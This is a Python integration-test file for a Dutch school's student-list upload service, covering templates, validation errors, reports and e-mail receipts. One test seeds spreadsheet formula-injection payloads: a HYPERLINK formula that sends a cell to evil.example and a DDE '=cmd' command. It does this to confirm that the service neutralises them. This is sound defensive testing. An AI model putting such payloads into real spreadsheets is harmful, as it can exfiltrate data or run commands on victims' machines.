"""Student lists through the gateway, against the real services on RabbitMQ:
templates, submission and its background check, the report, review, loading,
e-mail over a real SMTP server."""
import io

from openpyxl import load_workbook

from tests.helpers import wait_until
from tests.uploads import xlsxfactory as xf
from tests.uploads.conftest import API, problem, submit, verdict

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def test_templates_per_school_type_and_student_type(system, school):
    _inst, admin = school
    seen = {}
    for school_type in ("vo", "mbo"):
        for student_type in ("potential_transfer", "non_transfer"):
            r = system.get(f"{API}/uploads/template?school_type={school_type}"
                           f"&student_type={student_type}", token=admin)
            assert r.status_code == 200, r.text
            assert r.headers["Content-Type"] == XLSX
            assert f"leerlinglijst-{school_type}-" in r.headers["Content-Disposition"]
            wb = load_workbook(io.BytesIO(r.content))
            assert wb.sheetnames == ["Leerlingen", "Instructies"]
            ws = wb["Leerlingen"]
            titles = [c.value for c in ws[1] if c.value]
            seen[(school_type, student_type)] = titles
            assert ws.freeze_panes == "A2"
            assert ws["A1"].font.bold and ws["A1"].fill.fgColor.rgb.endswith("1F4E79")
            # identifier columns are text, so Excel keeps leading zeros
            assert ws.column_dimensions["A"].number_format == "@"
            assert ws.column_dimensions["B"].number_format == "@"
            lists = {str(dv.sqref).split(":")[0].rstrip("0123456789"): dv.formula1
                     for dv in ws.data_validations.dataValidation}
            gender_col = chr(ord("A") + titles.index("Geslacht"))
            assert lists[gender_col] == '"M,V,X"'
            info = wb["Instructies"]
            assert "Leerlinglijst" in info["A1"].value
            listed = [info.cell(row=r_, column=1).value for r_ in range(1, info.max_row + 1)]
            assert set(titles) <= set(listed)
    assert "Onderwijsnummer" in seen[("vo", "potential_transfer")]
    assert "Onderwijsnummer" not in seen[("vo", "non_transfer")]
    assert "Leerweg" in seen[("vo", "potential_transfer")]
    assert "Leerweg/Niveau" in seen[("mbo", "non_transfer")]
    r = system.get(f"{API}/uploads/template?school_type=hbo&student_type=non_transfer",
                   token=admin)
    problem(r, 422, "choice_invalid")


def test_valid_list_waits_for_review_and_mails_a_receipt(system, school, smtp):
    _inst, admin = school
    rows = [xf.student_row(i) for i in range(1, 6)]
    r = submit(system, admin, xf.make_list(rows))
    assert r.status_code == 202, r.text
    body = r.json()
    assert body["status"] == "validating" and isinstance(body["id"], int)
    up = verdict(system, admin, body["id"])
    assert up["status"] == "awaiting_review", up["errors"]
    assert up["rows"] == 5 and up["errors"] == [] and up["error_count"] == 0
    assert up["progress"] == {"done": 5, "total": 5}
    mail = smtp.wait_for("received", to="j.wolff@school.nl")
    assert mail["Subject"] == "Leerlinglijst ontvangen"
    text = mail.get_content()
    assert "Beste Janneke Wolff" in text and "5 leerling(en)" in text
    # the review queue
    queue = system.get(f"{API}/uploads?status=awaiting_review").json()
    assert [u["id"] for u in queue["items"]] == [body["id"]]
    assert system.get(f"{API}/uploads?status=loaded").json()["total"] == 0


def test_errors_per_row_and_column_and_the_report(system, school, smtp):
    _inst, admin = school
    good = [xf.student_row(i) for i in range(1, 4)]
    bad_bsn = {**xf.student_row(10), "BSN": "123456789"}
    letters = {**xf.student_row(11), "Leerlingnummer": "12ab"}
    no_ids = {**xf.student_row(12), "BSN": None}
    twice = {**xf.student_row(13), "Leerlingnummer": good[0]["Leerlingnummer"]}
    bad_date = {**xf.student_row(14), "Geboortedatum": "31-02-2010"}
    bad_mail = {**xf.student_row(15), "E-mailadres": "geen-adres", "Postcode": "12345"}
    rows = good + [bad_bsn, letters, no_ids, twice, bad_date, bad_mail]
    r = submit(system, admin, xf.make_list(rows))
    assert r.status_code == 202, r.text
    up = verdict(system, admin, r.json()["id"])
    assert up["status"] == "rejected"
    found = {(e["row"], e["column"], e["code"]) for e in up["errors"]}
    assert found == {
        (5, "BSN", "bsn_invalid"),
        (6, "Leerlingnummer", "student_number_not_digits"),
        (7, "BSN", "bsn_required"),
        (8, "Leerlingnummer", "student_number_duplicate"),
        (9, "Geboortedatum", "date_invalid"),
        (10, "E-mailadres", "email_invalid"),
        (10, "Postcode", "postcode_invalid"),
    }
    assert up["error_count"] == 7
    dup = next(e for e in up["errors"] if e["code"] == "student_number_duplicate")
    assert "rij 2" in dup["message"]
    assert all(e["message"] and e["cell"] for e in up["errors"])
    mail = smtp.wait_for("rejected")
    assert "fouten" in mail.get_content()

    wait_until(lambda: system.get(f"{API}/uploads/{up['id']}", token=admin).json()
               ["report_ready"], timeout=20)
    r = system.get(f"{API}/uploads/{up['id']}/report.xlsx", token=admin)
    assert r.status_code == 200 and r.headers["Content-Type"] == XLSX
    wb = load_workbook(io.BytesIO(r.content))
    ws = wb["Leerlingen"]
    bsn_cell = ws["B5"]
    assert bsn_cell.value == "123456789"
    assert bsn_cell.fill.fgColor.rgb.endswith("FFC7CE")
    assert "elfproef" in bsn_cell.comment.text
    assert ws["B2"].comment is None and not ws["B2"].fill.fgColor.rgb.endswith("FFC7CE")
    assert ws["A1"].value == "Leerlingnummer"
    listing = [[c.value for c in row] for row in wb["Fouten"].iter_rows(min_row=2)]
    assert len(listing) == 7


def test_the_report_carries_no_formula_and_goes_back_as_it_is(system, school):
    """Names a spreadsheet would run as formulas come back in report.xlsx as
    text; the report keeps the template's formatting, and sent back as it is
    the school gets the same verdict (its rows and errors unchanged)."""
    _inst, admin = school
    hostile = {"Voornaam": '=HYPERLINK("http://evil.example/?d="&B2,"klik")',
               "Achternaam": "=cmd|' /C calc'!A0", "Tussenvoegsel": "@SUM(1+1)",
               "Woonplaats": "+31 6 12345678"}
    rows = [{**xf.student_row(1), **hostile},
            {**xf.student_row(2), "BSN": 3965223, "Postcode": "2235 SD"}]
    r = submit(system, admin, xf.make_list(rows))
    up = verdict(system, admin, r.json()["id"])
    first = sorted((e["row"], e["column"], e["code"]) for e in up["errors"])
    assert first == [(3, "BSN", "bsn_leading_zeros_lost"), (3, "Postcode", "postcode_invalid")]
    wait_until(lambda: system.get(f"{API}/uploads/{up['id']}", token=admin).json()
               ["report_ready"], timeout=20)
    report = system.get(f"{API}/uploads/{up['id']}/report.xlsx", token=admin).content
    wb = load_workbook(io.BytesIO(report))
    ws = wb["Leerlingen"]
    titles = [c.value for c in ws[1]]
    for title, text in hostile.items():
        cell = ws.cell(row=2, column=titles.index(title) + 1)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), title
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    assert ws.column_dimensions["B"].number_format == "@"            # BSN stays text
    assert wb.sheetnames == ["Leerlingen", "Fouten", "Instructies"]
    assert [c.value for c in wb["Fouten"][1]] == ["Rij", "Kolom", "Melding", "Code"]
    again = verdict(system, admin, submit(system, admin, report, "rapport.xlsx").json()["id"])
    assert sorted((e["row"], e["column"], e["code"]) for e in again["errors"]) == first


def test_column_titles_missing_extra_and_misspelled(system, school):
    _inst, admin = school
    titles = [c for c in xf.student_row(1)]
    titles[titles.index("Voornaam")] = "Voornam"           # misspelled
    titles.remove("Klas")                                   # missing
    titles.append("Opmerking")                              # extra
    rows = [[xf.student_row(1).get(t) for t in titles]]
    r = submit(system, admin, xf.make_list(rows, titles=titles))
    up = verdict(system, admin, r.json()["id"])
    assert up["status"] == "rejected"
    by_code = {}
    for e in up["errors"]:
        by_code.setdefault(e["code"], []).append(e)
    unknown = {e["column"]: e for e in by_code["column_unknown"]}
    assert unknown["Voornam"]["suggestion"] == "Voornaam"
    assert "Bedoelt u 'Voornaam'?" in unknown["Voornam"]["message"]
    assert "suggestion" not in unknown["Opmerking"]
    # Voornaam is named once (the suggestion), Klas as missing
    assert {e["column"] for e in by_code["column_missing"]} == {"Klas"}
    assert all(e["row"] == 1 for e in up["errors"])


def test_bsn_padding_onderwijsnummer_dates_formulas_hidden_sheets(system, school):
    """A numeric BSN cell 20355889 is BSN 020355889; an onderwijsnummer stands in
    for an empty BSN; dates as Excel dates or dd-mm-jjjj; formulas count by their
    cached value; trailing empty (formatted) rows and hidden sheets do not matter."""
    _inst, admin = school
    padded = xf.bsns(1, leading_zero=True)[0]
    assert padded.startswith("0")
    rows = [
        {**xf.student_row(1), "BSN": int(padded)},                       # numeric cell
        {**xf.student_row(2), "BSN": None, "Onderwijsnummer": xf.onderwijsnummer(2)},
        {**xf.student_row(3), "Geboortedatum": "03-11-2010"},             # text date
        {**xf.student_row(4)},
    ]

    def extra(wb, ws):
        from openpyxl.styles import PatternFill
        ws.title = "Blad1"
        hidden = wb.create_sheet("Leerlingen", 0)  # a hidden sheet is never read
        hidden.append(["rommel", "niet", "lezen"])
        hidden.sheet_state = "hidden"
        ws["E5"] = '=CONCATENATE("Le","vi")'  # a formula: its cached value counts
        for row in range(6, 60):               # formatted but empty rows at the end
            ws.cell(row=row, column=3).fill = PatternFill("solid", fgColor="FFFF00")

    content = xf.make_list(rows, extra=extra)
    content = _with_cached_value(content, "E5", "Levi")
    r = submit(system, admin, content)
    up = verdict(system, admin, r.json()["id"])
    assert up["status"] == "awaiting_review", up["errors"]
    assert up["rows"] == 4
    assert up["sheet"] == "Blad1"


def _with_cached_value(content, ref, value):
    """openpyxl writes a formula without its cached value; add one as Excel does."""
    import zipfile
    src = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            marker = f'<c r="{ref}"'.encode()
            if info.filename.startswith("xl/worksheets/") and marker in data:
                start = data.index(marker)
                end = data.index(b"</c>", start) + 4
                cell = data[start:end]
                formula = cell[cell.index(b"<f>"):cell.index(b"</f>") + 4]
                data = (data[:start] + marker + b' t="str">' + formula + b"<v>"
                        + value.encode() + b"</v></c>" + data[end:])
            dst.writestr(info, data)
    return out.getvalue()
